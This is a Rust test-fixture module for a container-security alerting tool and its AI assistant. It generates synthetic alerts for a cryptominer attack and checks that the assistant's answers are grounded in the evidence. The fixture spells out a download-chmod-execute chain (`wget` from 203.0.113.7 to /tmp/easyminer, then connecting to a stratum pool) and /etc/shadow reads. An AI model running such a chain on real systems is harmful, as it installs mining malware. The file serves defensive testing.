//! The mission scenario as alerts, an in-memory `Evidence` over them (filters evaluated
//! with saker's real filter language), and shared checks.
#![allow(dead_code)]

use std::collections::BTreeMap;
use std::net::{IpAddr, Ipv4Addr};
use std::path::{Path, PathBuf};
use std::sync::{Mutex, OnceLock};

use saker_assist::{
    AnswerPart, AnswerSummary, AssistConfig, AssistError, Assistant, Evidence, Section,
};
use saker_event::event::{Connect, Exec, FileKind, FileOp, Process, AT_FDCWD};
use saker_event::{
    Alert, Ancestor, BString, Body, ContainerMeta, Context, Enriched, Event, ProcContext, Severity,
};
use saker_rules::fields::ids;
use saker_rules::{
    saker_fields, FieldArg, FieldId, FieldRegistry, FieldSource, Filter, ListRef, Value,
};

pub const SEC: i64 = 1_000_000_000;
pub const T0: i64 = 1_767_225_600 * SEC; // 2026-01-01T00:00:00Z
pub const CLUSTER: &str = "prod-eu-1";
pub const NODE: &str = "node-a";
pub const NS: &str = "risk-10-aws-bedrock-java";
pub const NS2: &str = "risk-11-payments";
pub const SCRIPT: &str = "./malicious-bin-event-gen.sh";
pub const MINER_SHA: &str = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08";
pub const SHIM: &str = "/usr/local/bin/containerd-shim-runc-v2";
pub const PODS: [&str; 3] = [
    "bedrock-java-7d9f8c6b5-x2k4p",
    "bedrock-java-worker-5c8d7-q9wz1",
    "payments-api-6f7b9-mm3tr",
];
pub const WORKLOADS: [&str; 3] = ["bedrock-java", "bedrock-java-worker", "payments-api"];

/// A container of the scenario.
#[derive(Clone)]
pub struct Wl {
    pub cid: Option<String>,
    pub meta: Option<ContainerMeta>,
}

fn container(
    ns: &str,
    workload: &str,
    pod: &str,
    name: &str,
    image: &str,
    cid: &str,
    hash: &str,
) -> Wl {
    let mut labels = BTreeMap::new();
    labels.insert("app".to_string(), workload.to_string());
    labels.insert("pod-template-hash".to_string(), hash.to_string());
    // Runtime labels the enricher also records: never used in selectors.
    labels.insert("io.kubernetes.pod.name".to_string(), pod.to_string());
    labels.insert("io.kubernetes.pod.namespace".to_string(), ns.to_string());
    Wl {
        cid: Some(cid.into()),
        meta: Some(ContainerMeta {
            id: cid.into(),
            runtime: "containerd".into(),
            name: Some(name.into()),
            image: Some(image.into()),
            pod_name: Some(pod.into()),
            namespace: Some(ns.into()),
            workload: Some(workload.into()),
            labels,
            ..ContainerMeta::default()
        }),
    }
}

pub fn workloads() -> Vec<Wl> {
    vec![
        container(
            NS,
            WORKLOADS[0],
            PODS[0],
            "app",
            "docker.io/acme/bedrock-java:1.4.2",
            &format!("{:0>64}", "c1"),
            "7d9f8c6b5",
        ),
        container(
            NS,
            WORKLOADS[1],
            PODS[1],
            "worker",
            "docker.io/acme/bedrock-java:1.4.2",
            &format!("{:0>64}", "c2"),
            "5c8d7",
        ),
        container(
            NS2,
            WORKLOADS[2],
            PODS[2],
            "api",
            "docker.io/acme/payments-api:2.0.1",
            &format!("{:0>64}", "c3"),
            "6f7b9",
        ),
    ]
}

pub fn b(s: &str) -> BString {
    BString::from(s)
}

fn anc(pid: u32, comm: &str, exe: &str, args: &[&str]) -> Ancestor {
    Ancestor {
        pid,
        comm: b(comm),
        exe: b(exe),
        args: args.iter().map(|a| b(a)).collect(),
    }
}

#[derive(Clone)]
pub struct P {
    pub pid: u32,
    pub ppid: u32,
    pub comm: BString,
    pub exe: BString,
    pub args: Vec<BString>,
    pub ancestors: Vec<Ancestor>,
    pub sha: Option<String>,
    pub upper: bool,
}

impl P {
    pub fn new(pid: u32, ppid: u32, comm: &str, exe: &str, args: &[&str]) -> P {
        P::raw(
            pid,
            ppid,
            b(comm),
            b(exe),
            args.iter().map(|a| b(a)).collect(),
        )
    }

    pub fn raw(pid: u32, ppid: u32, comm: BString, exe: BString, args: Vec<BString>) -> P {
        P {
            pid,
            ppid,
            comm,
            exe,
            args,
            ancestors: Vec::new(),
            sha: None,
            upper: false,
        }
    }

    fn child_ancestry(&self) -> Vec<Ancestor> {
        let mut v = vec![Ancestor {
            pid: self.pid,
            comm: self.comm.clone(),
            exe: self.exe.clone(),
            args: self.args.clone(),
        }];
        v.extend(self.ancestors.iter().cloned());
        v
    }
}

pub struct Rule {
    pub name: &'static str,
    pub policy: &'static str,
    pub severity: Severity,
    pub tactics: &'static [&'static str],
    pub technique: &'static str,
}

pub const SHELL: Rule = Rule {
    name: "Suspicious - Shell Spawned By Non-Shell Parent In Container",
    policy: "Suspicious Activity",
    severity: Severity::Notice,
    tactics: &["TA0002"],
    technique: "T1059.004",
};
pub const DOWNLOADER: Rule = Rule {
    name: "Suspicious - Downloader Tool Run In Container",
    policy: "Suspicious Activity",
    severity: Severity::Warning,
    tactics: &["TA0011"],
    technique: "T1105",
};
pub const CHMOD: Rule = Rule {
    name: "Drift - Executable Bit Added In Container",
    policy: "Drift Detection",
    severity: Severity::Error,
    tactics: &["TA0005"],
    technique: "T1222.002",
};
pub const DRIFT: Rule = Rule {
    name: "Drift - Binary Executed From Container Upper Layer",
    policy: "Drift Detection",
    severity: Severity::Critical,
    tactics: &["TA0002", "TA0003"],
    technique: "T1204.002",
};
pub const MINER: Rule = Rule {
    name: "Malware - Known Cryptominer Executed",
    policy: "Malicious Binary Detection",
    severity: Severity::Critical,
    tactics: &["TA0040"],
    technique: "T1496",
};
pub const POOL: Rule = Rule {
    name: "Malware - Connection To Mining Pool Port",
    policy: "Malicious Binary Detection",
    severity: Severity::Critical,
    tactics: &["TA0040", "TA0011"],
    technique: "T1496",
};
pub const SENSITIVE: Rule = Rule {
    name: "Suspicious - Sensitive File Opened",
    policy: "Suspicious Activity",
    severity: Severity::Warning,
    tactics: &["TA0006"],
    technique: "T1003.008",
};

fn exec_body(p: &P, prevented: bool) -> Body {
    Body::Exec(Exec {
        filename: p.exe.clone(),
        args: p.args.clone(),
        args_truncated: false,
        filename_truncated: false,
        exe_dev: 0,
        exe_ino: 0,
        exe_overlay: true,
        exe_upper_layer: p.upper,
        exe_memfd: false,
        prevented,
    })
}

fn file_body(op: FileKind, path: BString) -> Body {
    Body::File(FileOp {
        op,
        path,
        path_truncated: false,
        dfd: AT_FDCWD,
        flags: 0,
        mode: 0o755,
        ret: 0,
    })
}

fn connect_body(port: u16) -> Body {
    Body::Connect(Connect {
        fd: 3,
        addr: IpAddr::V4(Ipv4Addr::LOCALHOST),
        port,
        ret: 0,
    })
}

fn alert(id: &str, seq: u64, t: i64, rule: &Rule, p: &P, body: Body, wl: &Wl) -> Alert {
    let prevented = matches!(&body, Body::Exec(e) if e.prevented);
    Alert {
        id: id.into(),
        time_ns: t,
        rule: rule.name.into(),
        policy: Some(rule.policy.into()),
        severity: rule.severity,
        output: format!(
            "{} (proc.cmdline={})",
            rule.name,
            saker_incident::join_args(&p.args)
        ),
        output_fields: Default::default(),
        tags: Vec::new(),
        mitre_tactics: rule.tactics.iter().map(|t| t.to_string()).collect(),
        mitre_techniques: vec![rule.technique.into()],
        prevented,
        event: Enriched {
            seq,
            event: Event {
                time_ns: t,
                ktime_ns: 0,
                process: Process {
                    tid: p.pid,
                    pid: p.pid,
                    ppid: p.ppid,
                    comm: p.comm.clone(),
                    ..Process::default()
                },
                body,
            },
            ctx: Context {
                proc: ProcContext {
                    exe: p.exe.clone(),
                    args: p.args.clone(),
                    ancestors: p.ancestors.clone(),
                    exe_sha256: p.sha.clone(),
                    exe_upper_layer: p.upper,
                    ..ProcContext::default()
                },
                container_id: wl.cid.clone(),
                container: wl.meta.clone(),
                node: NODE.into(),
                cluster: CLUSTER.into(),
                ..Context::default()
            },
        },
    }
}

/// Strings the attacker controls in one run of the chain.
#[derive(Clone)]
pub struct Payload {
    pub script_arg: BString,
    pub url: BString,
    pub drop_path: BString,
    pub miner_args: Vec<BString>,
    pub prevented: bool,
}

impl Payload {
    pub fn benign_looking() -> Payload {
        Payload {
            script_arg: b(SCRIPT),
            url: b("http://203.0.113.7/easyminer"),
            drop_path: b("/tmp/easyminer"),
            miner_args: vec![
                b("/tmp/easyminer"),
                b("--url"),
                b("stratum+tcp://127.0.0.1:3333"),
            ],
            prevented: false,
        }
    }
}

/// One run of the mission chain: `sh ./malicious-bin-event-gen.sh` downloads, chmods and
/// runs easyminer, which connects to a stratum pool on 127.0.0.1:3333.
pub fn chain(prefix: &str, wl: &Wl, base: u32, t: i64, seq: u64, pl: &Payload) -> Vec<Alert> {
    let (shim, script_pid) = (base, base + 10);
    let outside = vec![
        anc(
            shim,
            "containerd-shim",
            SHIM,
            &[SHIM, "-namespace", "k8s.io"],
        ),
        anc(1, "systemd", "/usr/lib/systemd/systemd", &["/sbin/init"]),
    ];
    let mut script = P::raw(
        script_pid,
        shim,
        b("sh"),
        b("/bin/sh"),
        vec![b("sh"), pl.script_arg.clone()],
    );
    script.ancestors = outside;
    let mut wget = P::raw(
        base + 11,
        script_pid,
        b("wget"),
        b("/usr/bin/wget"),
        vec![b("wget"), pl.url.clone(), b("-O"), pl.drop_path.clone()],
    );
    wget.ancestors = script.child_ancestry();
    let mut chmod = P::raw(
        base + 12,
        script_pid,
        b("chmod"),
        b("/bin/chmod"),
        vec![b("chmod"), b("+x"), pl.drop_path.clone()],
    );
    chmod.ancestors = script.child_ancestry();
    let comm = pl
        .drop_path
        .to_str()
        .and_then(|s| s.rsplit('/').next())
        .unwrap_or("easyminer");
    let comm: String = comm.chars().take(15).collect();
    let mut miner = P::raw(
        base + 13,
        script_pid,
        b(&comm),
        pl.drop_path.clone(),
        pl.miner_args.clone(),
    );
    miner.ancestors = script.child_ancestry();
    miner.sha = Some(MINER_SHA.into());
    miner.upper = true;

    let id = |s: &str| format!("{prefix}-{s}");
    let mut v = vec![
        alert(
            &id("shell"),
            seq,
            t,
            &SHELL,
            &script,
            exec_body(&script, false),
            wl,
        ),
        alert(
            &id("wget"),
            seq + 1,
            t + SEC,
            &DOWNLOADER,
            &wget,
            exec_body(&wget, false),
            wl,
        ),
        alert(
            &id("chmod"),
            seq + 2,
            t + 2 * SEC,
            &CHMOD,
            &chmod,
            file_body(FileKind::Chmod, pl.drop_path.clone()),
            wl,
        ),
        alert(
            &id("drift"),
            seq + 3,
            t + 3 * SEC,
            &DRIFT,
            &miner,
            exec_body(&miner, pl.prevented),
            wl,
        ),
    ];
    if !pl.prevented {
        v.push(alert(
            &id("miner"),
            seq + 3,
            t + 3 * SEC,
            &MINER,
            &miner,
            exec_body(&miner, false),
            wl,
        ));
        v.push(alert(
            &id("pool"),
            seq + 4,
            t + 4 * SEC,
            &POOL,
            &miner,
            connect_body(3333),
            wl,
        ));
    }
    v
}

/// Unrelated noise on the node's host: a backup agent reading /etc/shadow every 40 s for
/// 100 minutes (150 WARNING alerts), after the attack.
pub fn noise() -> Vec<Alert> {
    let host = Wl {
        cid: None,
        meta: None,
    };
    let mut p = P::new(
        700,
        1,
        "backup-agent",
        "/usr/sbin/backup-agent",
        &["/usr/sbin/backup-agent", "--daily"],
    );
    p.ancestors = vec![anc(
        1,
        "systemd",
        "/usr/lib/systemd/systemd",
        &["/sbin/init"],
    )];
    (0..150)
        .map(|k| {
            alert(
                &format!("h-{k:03}"),
                10_000 + k as u64,
                T0 + 600 * SEC + k as i64 * 40 * SEC,
                &SENSITIVE,
                &p,
                file_body(FileKind::Open, b("/etc/shadow")),
                &host,
            )
        })
        .collect()
}

/// The mission with the given attacker strings: the chain in each of the three workloads,
/// 30 s apart, plus the host noise.
pub fn mission_with(pl: &Payload) -> Vec<Alert> {
    let mut v: Vec<Alert> = workloads()
        .iter()
        .enumerate()
        .flat_map(|(k, wl)| {
            chain(
                &format!("w{}", k + 1),
                wl,
                1000 * (k as u32 + 1),
                T0 + 30 * SEC * k as i64,
                100 * (k as u64 + 1),
                pl,
            )
        })
        .collect();
    v.extend(noise());
    v
}

pub fn mission() -> Vec<Alert> {
    mission_with(&Payload::benign_looking())
}

/// Alert ids of the attack (not the noise).
pub fn attack_ids(alerts: &[Alert]) -> Vec<String> {
    let mut v: Vec<String> = alerts
        .iter()
        .filter(|a| !a.id.starts_with("h-"))
        .map(|a| a.id.clone())
        .collect();
    v.sort();
    v
}

/// The store, in memory: filters are compiled and evaluated with saker-rules.
pub struct MemEvidence {
    pub alerts: Vec<Alert>,
    registry: FieldRegistry,
    pub queries: Mutex<Vec<Option<String>>>,
}

impl MemEvidence {
    pub fn new(alerts: Vec<Alert>) -> MemEvidence {
        MemEvidence {
            alerts,
            registry: saker_fields(),
            queries: Mutex::new(Vec::new()),
        }
    }

    /// Ids of the alerts `filter` selects, sorted.
    pub fn select(&self, filter: &str) -> Vec<String> {
        let f = Filter::compile(filter, &self.registry).unwrap_or_else(|e| panic!("{filter}: {e}"));
        let mut v: Vec<String> = self
            .alerts
            .iter()
            .filter(|a| f.matches(&AlertSrc(a)))
            .map(|a| a.id.clone())
            .collect();
        v.sort();
        v
    }
}

struct AlertSrc<'a>(&'a Alert);

impl FieldSource for AlertSrc<'_> {
    fn get(&self, field: FieldId, _arg: &FieldArg) -> Option<Value<'_>> {
        let a = self.0;
        let ctx = &a.event.ctx;
        let c = ctx.container.as_ref();
        Some(match field {
            ids::ALERT_ID => Value::Str(&a.id),
            ids::RULE => Value::Str(&a.rule),
            ids::POLICY => Value::Str(a.policy.as_deref()?),
            ids::PRIORITY | ids::SEVERITY => Value::Str(a.severity.as_str()),
            ids::MITRE_TECHNIQUE => Value::List(ListRef::Strings(&a.mitre_techniques)),
            ids::MITRE_TACTIC => Value::List(ListRef::Strings(&a.mitre_tactics)),
            ids::K8S_NS_NAME => Value::Str(c?.namespace.as_deref()?),
            ids::K8S_POD_NAME => Value::Str(c?.pod_name.as_deref()?),
            ids::K8S_WORKLOAD_NAME => Value::Str(c?.workload.as_deref()?),
            ids::CONTAINER_IMAGE => Value::Str(c?.image.as_deref()?),
            ids::CONTAINER_NAME => Value::Str(c.and_then(|c| c.name.as_deref()).unwrap_or("host")),
            ids::KUBERNETES_CLUSTER_NAME => Value::Str(&ctx.cluster),
            ids::NODE_NAME => Value::Str(&ctx.node),
            ids::PROC_NAME => Value::Str(a.event.event.process.comm.to_str()?),
            ids::EVT_TIME => Value::Uint(a.time_ns.max(0) as u64),
            _ => return None,
        })
    }
}

impl Evidence for MemEvidence {
    fn alerts(&self, filter: Option<&str>, limit: usize) -> Result<Vec<Alert>, AssistError> {
        self.queries
            .lock()
            .unwrap_or_else(|p| p.into_inner())
            .push(filter.map(str::to_string));
        let f = match filter {
            Some(t) => Some(
                Filter::compile(t, &self.registry)
                    .map_err(|e| AssistError::InvalidFilter(e.to_string()))?,
            ),
            None => None,
        };
        let mut v: Vec<Alert> = self
            .alerts
            .iter()
            .filter(|a| f.as_ref().is_none_or(|f| f.matches(&AlertSrc(a))))
            .cloned()
            .collect();
        // The most recent `limit`, as the store promises.
        v.sort_by(|a, b| (b.time_ns, &b.id).cmp(&(a.time_ns, &a.id)));
        v.truncate(limit);
        Ok(v)
    }

    fn alert(&self, id: &str) -> Result<Option<Alert>, AssistError> {
        Ok(self.alerts.iter().find(|a| a.id == id).cloned())
    }

    fn count(&self, filter: Option<&str>) -> Result<Option<u64>, AssistError> {
        Ok(Some(self.alerts(filter, usize::MAX)?.len() as u64))
    }
}

/// Everything an answer streamed.
#[derive(Default)]
pub struct Collected {
    pub parts: Vec<AnswerPart>,
}

impl Collected {
    pub fn sections(&self) -> Vec<&Section> {
        self.parts
            .iter()
            .filter_map(|p| match p {
                AnswerPart::Section(s) => Some(s),
                _ => None,
            })
            .collect()
    }

    pub fn narrative(&self) -> String {
        self.parts
            .iter()
            .filter_map(|p| match p {
                AnswerPart::TextDelta(t) => Some(t.as_str()),
                _ => None,
            })
            .collect()
    }

    /// The sections as text.
    pub fn text(&self) -> String {
        self.sections()
            .iter()
            .map(|s| s.markdown())
            .collect::<Vec<_>>()
            .join("\n")
    }
}

/// Asks and collects.
pub fn ask(
    a: &Assistant,
    ev: &MemEvidence,
    session: &str,
    q: &str,
    ctx: Option<&str>,
) -> (AnswerSummary, Collected) {
    let mut c = Collected::default();
    let s = a
        .ask(ev, session, q, ctx, &mut |p| c.parts.push(p))
        .unwrap_or_else(|e| panic!("{q}: {e}"));
    (s, c)
}

pub fn weights_dir() -> PathBuf {
    std::env::var_os("SAKER_MODEL_DIR")
        .map(PathBuf::from)
        .unwrap_or_else(|| Path::new(env!("CARGO_MANIFEST_DIR")).join("../../models/weights"))
}

fn require(p: PathBuf) -> PathBuf {
    assert!(
        p.exists(),
        "{} is missing: run `cargo xtask fetch-model` first (or set SAKER_MODEL_DIR)",
        p.display()
    );
    p
}

pub fn llm_path() -> PathBuf {
    require(weights_dir().join("smollm2-135m-instruct.q8_0.gguf"))
}

pub fn minilm_dir() -> PathBuf {
    let d = weights_dir().join("minilm");
    require(d.join("model.safetensors"));
    d
}

/// No models: keyword routing and deterministic narratives.
pub fn plain() -> Assistant {
    Assistant::new(AssistConfig::default()).expect("assistant")
}

/// The embedder only (shared: loading it twice per test binary is wasted time).
pub fn with_embedder() -> &'static Assistant {
    static A: OnceLock<Assistant> = OnceLock::new();
    A.get_or_init(|| {
        Assistant::new(AssistConfig {
            embedder_dir: Some(minilm_dir()),
            threads: 1,
            ..AssistConfig::default()
        })
        .expect("assistant with embedder")
    })
}

/// Both real models.
pub fn with_models() -> &'static Assistant {
    static A: OnceLock<Assistant> = OnceLock::new();
    A.get_or_init(|| {
        Assistant::new(AssistConfig {
            embedder_dir: Some(minilm_dir()),
            model_path: Some(llm_path()),
            threads: 1,
            ..AssistConfig::default()
        })
        .expect("assistant with models")
    })
}

/// Text that may legitimately appear in answers without being evidence: the bundled
/// knowledge (ATT&CK, playbooks).
pub fn knowledge_text() -> String {
    let mut s = String::new();
    s.push_str(include_str!("../../knowledge/attack-enterprise.json"));
    s.push_str(include_str!("../../knowledge/playbooks.json"));
    s
}

/// The evidence as text (every string an alert holds).
pub fn evidence_text(alerts: &[Alert]) -> String {
    alerts
        .iter()
        .map(|a| {
            let mut s = serde_json::to_string(a).unwrap_or_default();
            s.push_str(&format!(
                " {}",
                a.event
                    .ctx
                    .proc
                    .args
                    .iter()
                    .map(|x| x.escaped())
                    .collect::<Vec<_>>()
                    .join(" ")
            ));
            s
        })
        .collect::<Vec<_>>()
        .join("\n")
}

/// Every name-like token (letters with digits or hyphens, paths, addresses) of `answer`
/// must occur in the evidence or the bundled knowledge: the answer introduces no entity.
pub fn assert_grounded(answer: &str, alerts: &[Alert]) {
    let ev = evidence_text(alerts);
    let kb = knowledge_text();
    // Generated on purpose from evidence names (policy names, file names for evidence).
    let generated = ["saker-isolate-", "saker-quarantine", "saker.io/quarantine"];
    let incidents: Vec<String> = saker_incident::correlate(alerts, &Default::default())
        .into_iter()
        .map(|i| i.id)
        .collect();
    // Japanese text has no spaces: every non-ASCII character separates tokens.
    for raw in
        answer.split(|c: char| c.is_whitespace() || !c.is_ascii() || "|`,;()[]{}<>\"'".contains(c))
    {
        let t = raw.trim_matches(|c: char| ".:!?*".contains(c));
        let namey = t.len() >= 4
            && t.chars().any(|c| c.is_ascii_alphabetic())
            && (t.contains('-') && t.chars().any(|c| c.is_ascii_digit())
                || t.starts_with('/')
                || t.chars().filter(|c| *c == '.').count() >= 3);
        if !namey || t.starts_with("--") || t.starts_with("-") {
            continue;
        }
        let base = t.trim_end_matches(".yaml").trim_end_matches(".log");
        let known = |x: &str| ev.contains(x) || kb.contains(x);
        // `namespace/workload` and `cluster/namespace/workload/pod` are compositions of
        // evidence names.
        let composite = !base.starts_with('/')
            && base.contains('/')
            && base
                .split('/')
                .all(|p| p.is_empty() || p == "-" || known(p));
        let ok = known(base)
            || composite
            || incidents.iter().any(|i| i == base)
            || generated.iter().any(|g| base.starts_with(g))
            // Times and dates are rendered from evidence timestamps.
            || base.chars().all(|c| c.is_ascii_digit() || "-:TZ".contains(c));
        assert!(ok, "{t:?} is not in the evidence:\n{answer}");
    }
}
